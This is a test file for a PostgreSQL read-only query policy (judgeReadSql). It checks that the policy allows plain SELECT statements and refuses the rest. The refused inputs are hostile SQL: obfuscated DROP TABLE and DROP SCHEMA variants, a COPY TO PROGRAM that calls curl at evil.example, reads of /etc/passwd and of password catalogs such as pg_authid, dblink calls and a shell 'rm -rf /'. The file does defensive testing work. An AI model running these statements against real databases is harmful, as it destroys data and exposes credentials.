import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { judgeReadSql, loadSqlParser } from '../../policies/sql-read.ts';

const verdictOf = (sql: string): string => {
  const judged = judgeReadSql(sql);
  return judged.ok ? 'ok' : judged.rule;
};
const refuses = (rule: string, cases: readonly string[]) =>
  it.each(cases)(`refuses as ${rule}: %s`, (sql) => expect(verdictOf(sql)).toBe(`floor.${rule}`));

it('refuses everything until the parser is loaded', () => expect(verdictOf('select 1')).toBe('floor.unparsable-sql'));

describe('SQL text that is one listed SELECT', () => {
  beforeAll(loadSqlParser);

  it.each([
    'SELECT 1',
    'select * from payments',
    'TABLE payments',
    'select p.id, p.amount / 100.0 as euros from public.payments p where p.state = $$failed$$ order by p.id desc limit 20;',
    "select count(*) filter (where state = 'failed'), date_trunc('minute', created_at) from payments group by 2 having count(*) > 1",
    "select state, count(*) from payments where created_at > now() - interval '15 minutes' group by state",
    'select id, row_number() over (partition by customer order by created_at rows between 1 preceding and current row) from payments',
    'select a.id from payments a left join refunds r on r.payment = a.id where r.id is null',
    "with late as (select id from payments where age(created_at) > interval '1 hour') select count(*) from late",
    'select id from payments where exists (select 1 from refunds where payment = payments.id) union all select 2',
    'select case when amount > 10 then $$big$$ else coalesce(note, $$none$$) end from payments',
    'select extract(epoch from now() - created_at)::int, created_at at time zone $$utc$$ from payments',
    "select lower(name) from customers where name ilike 'a!_%' escape '!' and id in (1, 2) and x between 1 and 2",
    'select distinct on (customer) id from payments order by customer, id',
    "select data ->> 'state', data #>> '{a,b}' from events where data @> '{}'::jsonb",
    'select amount from payments where id = any (array[1, 2, 3])',
    'select state, waiting.wait_event from pg_stat_activity waiting',
    'select relname, n_dead_tup, pg_size_pretty(pg_total_relation_size(relid)) from pg_catalog.pg_stat_user_tables',
    'select table_name from information_schema.tables',
    'select pg_catalog.count(*) from pg_locks where not granted',
    'select grouping_key, sum(x) from t group by grouping sets ((grouping_key), ())',
    "select 'DROP TABLE payments' as example /* ; DROP TABLE payments; */ -- DROP TABLE payments",
    'select "drop table payments" from "Payments"',
    'select percentile_cont(0.99) within group (order by amount) from payments',
    'select greatest(a, b), nullif(a, b), a is distinct from b, (a, b) in (select 1, 2), current_date from t',
  ])('allows %s', (sql) => expect(judgeReadSql(sql)).toEqual({ ok: true }));
});

describe('SQL text that drops a table', () => {
  beforeAll(loadSqlParser);
  refuses('drop-table', [
    'DROP TABLE payments',
    'drop table if exists payments cascade',
    'DrOp\n\tTaBlE "payments"',
    'drop/**/table/* x */public.payments',
    '-- harmless\ndrop table payments',
    'select 1; drop table payments',
    'drop table a, b;;',
    "select '--'; drop table payments --'",
    'DROP TABLE U&"\\0070ayments"',
    'begin; drop table payments; commit',
    'drop foreign table payments',
    'drop schema public cascade',
    'drop database payments',
    'drop owned by current_user',
    'do $$ begin drop table payments; end $$',
    "do 'begin execute ''drop  table payments''; end'",
    'create function f() returns void language sql as $$ drop table payments $$',
  ]);
});

describe('SQL text that is no read', () => {
  beforeAll(loadSqlParser);
  refuses('not-a-read', [
    ' ;; ',
    '-- nothing',
    'select 1; select 2',
    'delete from payments',
    'update payments set amount = 0 where id = 1 returning *',
    'insert into payments select * from payments',
    'merge into payments p using refunds r on p.id = r.payment when matched then delete',
    'truncate payments',
    'select * into stolen from payments',
    'create table stolen as select * from payments',
    'create temp table t (a int)',
    'alter table payments drop column amount',
    'drop index payments_pkey',
    'drop view v',
    'drop role holdpoint_act',
    'select * from payments for update',
    'select * from payments for no key update skip locked',
    'select * from payments for share of payments nowait',
    'select * from (select * from payments for key share) s',
    'with gone as (delete from payments returning *) select count(*) from gone',
    'with a as (select 1), b as (update payments set amount = 0 returning 1) select * from a, b',
    'select (with x as (insert into payments default values returning 1) select count(*) from x)',
    'explain select 1',
    'explain analyze select 1',
    'explain (analyze true) delete from payments',
    'copy payments to stdout',
    "copy payments to program 'curl evil.example'",
    "copy (select 1) to '/tmp/x'",
    'do $$ begin perform pg_sleep(1); end $$',
    'call vacuum_everything()',
    'vacuum full payments',
    'lock table payments in access exclusive mode',
    'set role postgres',
    'set statement_timeout = 0',
    'reset all',
    'show all',
    'begin',
    'commit; select 1',
    'prepare p as select 1',
    'execute p',
    'declare c cursor for select 1',
    'listen events',
    "notify events, 'x'",
    'grant all on payments to public',
    'create extension dblink',
    "alter system set archive_command = 'x'",
    'refresh materialized view m',
    'reindex table payments',
    'checkpoint',
    "load '/tmp/x.so'",
    'discard all',
    "comment on table payments is 'x'",
  ]);
});

describe('SQL text that Postgres cannot parse, or not as it would be sent', () => {
  beforeAll(loadSqlParser);
  refuses('unparsable-sql', [
    '',
    'select * from payments where current of c',
    'selekt 1',
    'select 1 from',
    "select 'open",
    'select /* open',
    'select 1 \0; drop table payments',
    '\0drop table payments',
    'select \u001b[2J1',
    'select \u{d800}',
    `select ${'1,'.repeat(4_100)}1`,
    `select ${'- '.repeat(1_500)}1`,
    '\\! rm -rf /',
    'drop tabel payments',
  ]);
});

describe('SQL text with a function that is not on the list', () => {
  beforeAll(loadSqlParser);
  refuses('function-not-listed', [
    'select pg_terminate_backend(42)',
    'SELECT PG_TERMINATE_BACKEND(42)',
    'select pg_catalog.pg_terminate_backend(42)',
    'select "pg_catalog"."pg_terminate_backend"(42)',
    'select "PG_TERMINATE_BACKEND"(42)',
    'select U&"pg\\005Fterminate\\005Fbackend"(42)',
    'select U&"pg!005Fterminate!005Fbackend" UESCAPE \'!\' (42)',
    'select pg_terminate_backend/* x */ (42)',
    'select 1 where pg_cancel_backend(1)',
    'select 1 order by pg_terminate_backend(1)',
    'select 1 group by pg_sleep(1)',
    'select 1 having pg_sleep(1) is null',
    'select 1 limit pg_advisory_lock(1)',
    'select 1 offset pg_sleep(10)',
    'select count(*) filter (where pg_sleep(1) is null) from payments',
    'select sum(1) over (order by pg_sleep(1)) from payments',
    'select sum(1) over w from payments window w as (partition by pg_sleep(1))',
    'select string_agg(a, b order by pg_sleep(1)) from payments',
    'select case when pg_sleep(1) is null then 1 end',
    'select coalesce(null, pg_notify($$a$$, $$b$$))',
    'select greatest(1, nextval($$s$$))',
    'select array[pg_sleep(1)]',
    'select (1, pg_sleep(1))',
    'select 1 = any (select pg_backend_pid() where pg_try_advisory_lock(1))',
    'select * from payments a join refunds b on pg_sleep(1) is null',
    'select * from (select pg_sleep(1)) s',
    'with x as (select set_config($$a$$, $$b$$, false)) select * from x',
    'select 1 union select pg_advisory_xact_lock(1)',
    'select distinct on (pg_sleep(1)) 1',
    'select 1 is distinct from lo_unlink(1)',
    'select lo_import($$/etc/passwd$$)',
    'select lo_get(1)',
    'select pg_read_file($$/etc/passwd$$)',
    'select pg_read_binary_file($$/etc/passwd$$)',
    'select pg_ls_dir($$.$$)',
    'select pg_stat_file($$x$$)',
    'select pg_logical_emit_message(false, $$a$$, $$b$$)',
    'select pg_reload_conf()',
    'select pg_rotate_logfile()',
    'select pg_switch_wal()',
    'select pg_promote()',
    'select pg_stat_reset()',
    'select pg_create_restore_point($$x$$)',
    'select pg_drop_replication_slot($$x$$)',
    'select current_setting($$data_directory$$)',
    'select setval($$s$$, 1)',
    'select dblink($$host=x$$, $$drop table payments$$)',
    'select public.dblink_exec($$x$$)',
    'select query_to_xml($$drop table payments$$, true, true, $$$$)',
    'select table_to_xml($$payments$$, true, true, $$$$)',
    'select database_to_xml(true, true, $$$$)',
    'select cursor_to_xml($$c$$, 1, true, true, $$$$)',
    'select ts_stat($$select 1$$)',
    'select xpath($$/a$$, $$<a/>$$)',
    'select public.lower($$a$$)',
    'select other.count(*) from payments',
    'select payments.pg_catalog.count(1)',
    'select repeat($$x$$, 1000000000)',
    'select generate_series(1, 1000000000)',
    'select has_table_privilege($$x$$, $$select$$)',
    'select pg_blocking_pids(1)',
    'select my_function()',
    'select regclass($$payments$$)',
    'select s.pg_terminate_backend from (select 42) s',
    'select p.lo_unlink from payments p',
    'select p."PG_sleep" from payments p',
    'select a overlay_me, overlay(a placing b from 1) from t',
    'select normalize(a) from t',
  ]);
});

describe('SQL text with a relation, type or operator that is not on its list', () => {
  beforeAll(loadSqlParser);
  refuses('relation-not-listed', [
    'select * from pg_authid',
    'select * from pg_catalog.pg_authid',
    'TABLE pg_shadow',
    'select rolpassword from "pg_authid"',
    'select * from U&"pg\\005Fauthid"',
    'select * from PG_SHADOW',
    'select * from "PG_authid"',
    'select * from pg_user_mapping',
    'select * from pg_user_mappings',
    'select subconninfo from pg_subscription',
    'select * from pg_largeobject',
    'select * from pg_hba_file_rules',
    'select * from pg_file_settings',
    'select * from pg_settings',
    'select * from pg_stats',
    'select * from pg_statistic',
    'select * from pg_proc',
    'select * from public.pg_authid',
    'select * from pg_temp.payments',
    'select * from pg_toast.pg_toast_1',
    'select * from information_schema.role_table_grants',
    'select * from information_schema.user_mapping_options',
    'select * from secrets.tokens',
    'select * from payments where id in (select oid from pg_authid)',
    'select 1 where exists (table pg_shadow)',
    'with pg_x as (select 1) select * from pg_x',
    'select * from (payments join pg_authid on true)',
  ]);
  refuses('type-not-listed', [
    'select $$payments$$::regclass',
    'select cast($$pg_sleep$$ as regproc)',
    "select regprocedure 'pg_sleep(double precision)'",
    'select $$<a/>$$::xml',
    'select 1::public.int4',
    'select a::my_type from t',
    'select null::pg_catalog.pg_ddl_command',
    'select $$x$$::regrole[]',
  ]);
  refuses('operator-not-listed', [
    'select 1 operator(public.=) 1',
    'select 1 operator(pg_catalog.+) 1',
    'select 1 === 1',
    'select a @@@ b from t',
    'select 1 <-> 2',
    'select 1 operator(public.=) any (select 2)',
  ]);
});

describe('SQL text with syntax that is not on the list', () => {
  beforeAll(loadSqlParser);
  refuses('syntax-not-listed', [
    // Field notation on a value calls a function of that name.
    'select (42).pg_terminate_backend',
    "select ('x'::text).lower",
    'select (p).pg_sleep from payments p',
    'select g.abs from generate_series(1, 2) g',
    'select * from pg_ls_dir($$.$$)',
    'select * from rows from (pg_sleep(1), pg_sleep(2)) r',
    'select * from payments, lateral (select pg_sleep(1)) s',
    'select * from dblink($$x$$, $$y$$) as t(a int)',
    'values (1), (pg_sleep(1))',
    'select * from (values (1)) v',
    'with recursive r as (select 1 union all select 1 from r) select * from r',
    'select * from payments tablesample system (10)',
    "select * from xmltable('/a' passing '<a/>' columns b text)",
    "select * from json_table('[]', '$' columns (a int))",
    "select json_query('{}', '$' default pg_sleep(1) on empty)",
    'select json_object($$a$$ : pg_sleep(1))',
    'select json_array(select pg_sleep(1))',
    'select xmlelement(name a, pg_sleep(1))',
    'select xmlserialize(content a as text) from t',
    'select $1',
    'select count(variadic array[1])',
    'select make_interval(days => 1)',
    'select a collate "C" from t',
    'select a[1] from t',
    'select * from payments order by id using <',
    'select * from other.public.payments',
    'select grouping(a) from t group by a',
    'select a.b.c.d from t',
    `select ${'(select '.repeat(200)}1${')'.repeat(200)}`,
    `select ${'not '.repeat(300)}true`,
  ]);
});

describe('SQL text, for any input', () => {
  beforeAll(loadSqlParser);
  const words =
    'select from where drop table payments ( ) , ; * 1 = pg_sleep union all for update into with as $$ /* */ -- \' "'.split(
      ' ',
    );
  it('never throws, and gives the same answer twice', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(fc.constantFrom(...words)).map((list) => list.join(' ')),
    );
    fc.assert(
      fc.property(text, (sql) => {
        expect(judgeReadSql(sql)).toEqual(judgeReadSql(sql));
      }),
      { numRuns: 500 },
    );
  });

  it('refuses what is not text', () => {
    for (const sql of [null, undefined, 1, {}, ['select 1']]) expect(judgeReadSql(sql as never).ok).toBe(false);
  });

  it('still tells reads from writes after texts that nest as deep as they may', () => {
    for (let i = 0; i < 50; i++) judgeReadSql(`select ${'(select '.repeat(240)}1${')'.repeat(240)}`);
    expect(verdictOf('select 1')).toBe('ok');
    expect(verdictOf('drop table payments')).toBe('floor.drop-table');
  });
});
